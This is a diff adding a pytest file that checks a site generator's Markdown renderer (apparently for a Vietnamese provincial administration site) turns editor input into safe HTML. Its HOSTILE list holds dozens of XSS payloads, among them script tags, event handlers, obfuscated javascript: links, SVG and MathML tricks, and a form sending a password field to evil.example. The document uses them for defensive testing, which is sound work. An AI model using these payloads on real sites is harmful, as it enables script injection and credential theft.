@@ -1,0 +1,371 @@
+"""What an editor writes becomes HTML that does no harm, around the parts it places."""
+
+import re
+from html.parser import HTMLParser
+from urllib.parse import urljoin, urlsplit
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from parsite.model.article import Article, Directive
+from parsite.stages.render.markup import pieces
+
+HERE = "https://tinh.example/cchc/2024/"
+TAGS = {
+    *("a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "div", "dl"),
+    *("dt", "em", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol"),
+    *("p", "pre", "q", "s", "small", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th"),
+    *("thead", "tr", "u", "ul"),
+}
+ATTRIBUTES = {
+    *("id", "class", "lang", "title", "href", "rel", "src", "alt", "width", "height", "start"),
+    *("colspan", "rowspan", "scope"),
+}
+PART = "[[ảnh]]"
+
+
+def article(body: str, body_line: int = 1) -> Article:
+    return Article("2024", "T", body, body_line=body_line)
+
+
+def html(body: str, root: str = "../") -> str:
+    """What a body becomes that places no parts."""
+    found = pieces(article(body), root)
+    assert not any(piece.directive for piece in found)
+    return "".join(str(piece.html) for piece in found)
+
+
+def told(body: str, body_line: int = 1) -> list[Directive | str]:
+    """A body's pieces: its parts, and the HTML between them."""
+    found = pieces(article(body, body_line), "../")
+    return [piece.directive or str(piece.html) for piece in found]
+
+
+class Harm(HTMLParser):
+    """Reads HTML as a browser does and notes what could do harm."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [tag] if tag not in TAGS else []
+        for name, value in attrs:
+            self.found += [f"{tag} {name}"] if name not in ATTRIBUTES else []
+            if name in {"href", "src"}:
+                self.address(tag, value or "")
+
+    def address(self, tag: str, value: str) -> None:
+        """Follow an address as browsers do, who drop line ends and take `\\` for `/`."""
+        plain = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(33))))
+        goal = urlsplit(urljoin(HERE, plain.replace("\\", "/")))
+        at_home = goal.scheme == "https" and goal.netloc == "tinh.example"
+        stated = plain.lower().startswith(("https://", "http://", "mailto:", "tel:"))
+        if not (at_home or (tag == "a" and stated)):
+            self.found.append(f"{tag} {value}")
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append(f"<!--{data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.found.append(decl)
+
+    def handle_pi(self, data: str) -> None:
+        self.found.append(data)
+
+
+def harm(text: str) -> list[str]:
+    reader = Harm()
+    reader.feed(text)
+    reader.close()
+    return reader.found
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='x'onerror='alert(1)'>",
+    '<img src="x" ONERROR\n=\n"alert(1)">',
+    "<img/src=x/onerror=alert(1)//",
+    "![x](x){onerror=alert(1)}",
+    '![x](media/a.png" onerror="alert(1))',
+    "![x](https://evil.example/dem.png)",
+    "![x](//evil.example/dem.png)",
+    "![x](\\\\evil.example/dem.png)",
+    "![x](/\\evil.example/dem.png)",
+    "![x](/\t/evil.example/dem.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    '<img srcset="https://evil.example/dem.png 1x" src="media/a.png">',
+    '<img src="media/a.png" style="position:fixed;inset:0">',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[x](javascript&#58;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    "[x](//evil.example/)",
+    "[x](///evil.example/)",
+    "[x](\\\\evil.example)",
+    "[x](/\\evil.example)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "[x][1]\n\n[1]: //evil.example",
+    "<javascript:alert(1)>",
+    '<a href="https://tinh.example" onclick="alert(1)" style="x" target="_top">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a xlink:href="javascript:alert(1)">x</a>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "<svg onload=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<style>@import '//evil.example/a.css';</style>",
+    '<div style="background:url(//evil.example/a.png)">x</div>',
+    '<link rel="stylesheet" href="//evil.example/a.css">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    '<base href="//evil.example/">',
+    '<iframe src="//evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="//evil.example"></object><embed src="//evil.example">',
+    '<form action="//evil.example"><input name="mat-khau"><button>Gửi</button></form>',
+    "<video src=//evil.example/a.mp4 autoplay onplay=alert(1)></video>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "<!-- <script>alert(1)</script> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><!DOCTYPE html>",
+    "<p onmouseover=alert(1)>x</p>",
+    '<h2 id="x" onfocus=alert(1) tabindex=1 autofocus>x</h2>',
+    "`<script>alert(1)</script>` <b>`</b><script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    '# x <img src=x onerror=alert(1)> ["](javascript:alert(1))',
+    '<td style="color:red" background="//evil.example/a.png">x</td>',
+    '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">x</blockquote>',
+]
+
+
+@pytest.mark.parametrize("body", HOSTILE)
+def test_nothing_an_editor_pastes_can_run_or_fetch_from_elsewhere(body: str) -> None:
+    assert harm(html(body)) == []
+
+
+@pytest.mark.parametrize("body", HOSTILE)
+def test_nor_among_the_parts_of_an_article(body: str) -> None:
+    between = [piece for piece in told(f"{PART}\n{body}\n{PART}\n") if isinstance(piece, str)]
+    assert harm("".join(between)) == []
+
+
+WORDS = re.findall(r"[A-Za-z]+|[^A-Za-z]", "".join(HOSTILE))
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(sorted({*WORDS, "\n\n", "\n    ", "]("})), max_size=30))
+def test_nor_anything_put_together_of_it(words: list[str]) -> None:
+    found = pieces(article("".join(words)), "../")
+    assert harm("".join(str(piece.html or "") for piece in found)) == []
+
+
+@pytest.mark.parametrize(
+    ("written", "address"),
+    [
+        ("2017/", "../2017/"),
+        ("/2017/", "../2017/"),
+        ("/", "../"),
+        ("media/quyet-dinh.pdf", "../media/quyet-dinh.pdf"),
+        ("2017/#bang-so", "../2017/#bang-so"),
+        ("don-vi/so-noi-vu/?a=1&amp;b=2", "../don-vi/so-noi-vu/?a=1&amp;b=2"),
+        ("#viec-can-lam", "#viec-can-lam"),
+        ("https://tinh.example/a", "https://tinh.example/a"),
+        ("http://tinh.example/a", "http://tinh.example/a"),
+        ("mailto:cchc@tinh.example", "mailto:cchc@tinh.example"),
+        ("tel:+84208123456", "tel:+84208123456"),
+    ],
+)
+def test_addresses_are_written_from_the_sites_root(written: str, address: str) -> None:
+    assert f'href="{address}"' in html(f"[x]({written})")
+    assert f'href="{address}"' in html(f'<a href="{written}">x</a>')
+
+
+def test_pictures_are_the_sites_own() -> None:
+    assert html("![Hội nghị](media/hoi-nghi.jpg)", root="../../") == (
+        '<p><img alt="Hội nghị" src="../../media/hoi-nghi.jpg"></p>'
+    )
+    assert html("![x](https://evil.example/dem.png)") == '<p><img alt="x"></p>'
+
+
+def test_a_tables_columns_are_aligned_by_a_class() -> None:
+    made = html("| Đơn vị | Điểm | Hạng | Ghi chú |\n|:--|--:|:-:|---|\n| A | 1 | 2 | 3 |\n")
+    assert re.findall(r'<(t[hd])(?: class="(.*?)")?>(.*?)<', made) == [
+        ("th", "align-left", "Đơn vị"),
+        ("th", "align-right", "Điểm"),
+        ("th", "align-center", "Hạng"),
+        ("th", "", "Ghi chú"),
+        ("td", "align-left", "A"),
+        ("td", "align-right", "1"),
+        ("td", "align-center", "2"),
+        ("td", "", "3"),
+    ]
+    assert "style" not in made
+
+
+@pytest.mark.parametrize(
+    ("heading", "made"),
+    [
+        ("## Đại Từ", '<h2 id="dai-tu">Đại Từ</h2>'),
+        ("## Đánh giá & kết quả", '<h2 id="danh-gia-ket-qua">Đánh giá &amp; kết quả</h2>'),
+        ("### Sở Khoa học và Công nghệ", "<h3"),
+        ("# Cải cách", '<h2 id="cai-cach">Cải cách</h2>'),
+        ("Cải cách\n========", '<h2 id="cai-cach">Cải cách</h2>'),
+        ("###### Ghi chú", "<h6"),
+        ("## Một\n\n## Một", '<h2 id="mot_1">Một</h2>'),
+    ],
+)
+def test_a_heading_has_an_address_in_unmarked_letters_and_is_never_the_first(
+    heading: str, made: str
+) -> None:
+    assert made in html(heading)
+
+
+@pytest.mark.parametrize(
+    "body",
+    ["## Các năm khác", "## Main", '<p id="main">x</p>', "## Bảng so"],
+)
+def test_no_address_of_an_article_is_one_of_the_page_around_it(body: str) -> None:
+    ids = re.findall(r'id="(.*?)"', html(body))
+    assert not {"main", "cac-nam-khac", "bang-so"} & {*ids}
+
+
+def test_footnotes_lead_there_and_back_in_vietnamese() -> None:
+    made = html("Một[^a].\n\n[^a]: Hai.")
+    links = re.findall(r'href="#(.*?)"', made)
+    assert len(links) == 2
+    assert all(f'id="{link}"' in made for link in links)
+    assert "footnote 1" not in re.sub(r"<[^>]*?(id|href|class)=[^>]*>", "", made)
+    assert re.findall(r'title="([^"]*)"', made) != ["Jump back to footnote 1 in the text"]
+
+
+def test_two_articles_share_no_footnotes_and_no_link_names() -> None:
+    html("Một[^1] [x].\n\n[^1]: Hai.\n\n[x]: https://tinh.example/")
+    assert html("Một[^1] [x].") == "<p>Một[^1] [x].</p>"
+
+
+def photo(line: int) -> Directive:
+    return Directive("photo", "", line)
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        (PART, [photo(1)]),
+        (f"Một\n{PART}\nHai", ["<p>Một</p>", photo(2), "<p>Hai</p>"]),
+        (f"Một\n\n{PART}\n\nHai", ["<p>Một</p>", photo(3), "<p>Hai</p>"]),
+        (f"{PART}\n{PART}", [photo(1), photo(2)]),
+        (f"{PART}\nHai", [photo(1), "<p>Hai</p>"]),
+        (f"Một\n{PART}", ["<p>Một</p>", photo(2)]),
+        (f"Một\n{PART}  \r\nHai", ["<p>Một</p>", photo(2), "<p>Hai</p>"]),
+        (f"Một\n{PART}\n===", ["<p>Một</p>", photo(2), "<p>===</p>"]),
+        (
+            f"- Một\n{PART}\n- Hai",
+            ["<ul>\n<li>Một</li>\n</ul>", photo(2), "<ul>\n<li>Hai</li>\n</ul>"],
+        ),
+        (
+            f"> Một\n{PART}\n> Hai",
+            [
+                "<blockquote>\n<p>Một</p>\n</blockquote>",
+                photo(2),
+                "<blockquote>\n<p>Hai</p>\n</blockquote>",
+            ],
+        ),
+        (f"**Một\n{PART}\nHai**", ["<p>**Một</p>", photo(2), "<p>Hai**</p>"]),
+        (
+            "[[ bảng xếp hạng :  so ]]\n[[bảng xếp hạng]]",
+            [Directive("ranking", "so", 1), Directive("ranking", "", 2)],
+        ),
+    ],
+)
+def test_a_part_stands_between_the_text_before_it_and_after_it(
+    body: str, expected: list[Directive | str]
+) -> None:
+    assert told(body) == expected
+
+
+def test_a_parts_line_is_that_of_the_file() -> None:
+    assert told(f"Một\n\n{PART}", body_line=12)[1] == photo(14)
+
+
+def test_a_footnote_reaches_across_a_part() -> None:
+    before, part, after = told(f"Một[^1].\n\n{PART}\n\n[^1]: Hai.")
+    assert part == photo(3)
+    assert 'href="#fn:1"' in str(before)
+    assert 'id="fn:1"' in str(after)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        f"Một {PART} hai",
+        f"{PART} hai",
+        f"Một {PART}",
+        f"    {PART}",
+        f"- {PART}",
+        f"> {PART}",
+        f"`{PART}`",
+        f"| a |\n|---|\n| {PART} |",
+        f"## {PART}",
+        "[[a]] [[b]]",
+        "[[]]",
+        "[[a\nb]]",
+        "\\[[ảnh]]",
+    ],
+)
+def test_brackets_that_are_not_a_whole_line_are_text(body: str) -> None:
+    made = html(body)
+    assert re.sub(r"<.*?>|\s", "", made).count("[[") == body.count("[[")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        f"<div>\n{PART}\n</div>",
+        f"<div>\n\n{PART}\n\n</div>",
+        f"<div>\n{PART}\n\nHai",
+        f"<pre>\n{PART}\n</pre>",
+        f"<!--\n{PART}\n-->",
+        f"<ul>\n<li>\n{PART}\n</li>\n</ul>",
+        f"<table><tr><td>\n{PART}\n</td></tr></table>",
+        f"<p>\n{PART}",
+        f"Một\n{PART}\n<div>\n{PART}\n</div>\n{PART}",
+    ],
+)
+def test_a_part_that_an_article_places_is_there_wherever_it_was_placed(body: str) -> None:
+    """Else a ranking would be gone from its page, which shows by itself what no article places."""
+    placed = [piece for piece in told(body) if isinstance(piece, Directive)]
+    assert placed == list(article(body).directives)
+    assert "parsite" not in "".join(piece for piece in told(body) if isinstance(piece, str))
+
+
+@pytest.mark.parametrize("body", ["parsite-directive-0", f"parsite-directive-0\n\n{PART}"])
+def test_no_text_is_taken_for_a_part(body: str) -> None:
+    assert told(body)[0] == "<p>parsite-directive-0</p>"
+
+
+@pytest.mark.parametrize("tag", ["div", "b", "a href='2017/'", "ul", "td"])
+def test_every_stretch_between_parts_is_whole(tag: str) -> None:
+    """A tag that an editor leaves open ends where a part begins, or all of the page is in it."""
+    for piece in told(f"<{tag}>Một\n\n{PART}\n\nHai"):
+        if isinstance(piece, str):
+            opened = re.findall(r"<(\w+)", re.sub(r"<(?:img|br|hr)\b", "", piece))
+            assert sorted(opened) == sorted(re.findall(r"</(\w+)", piece))
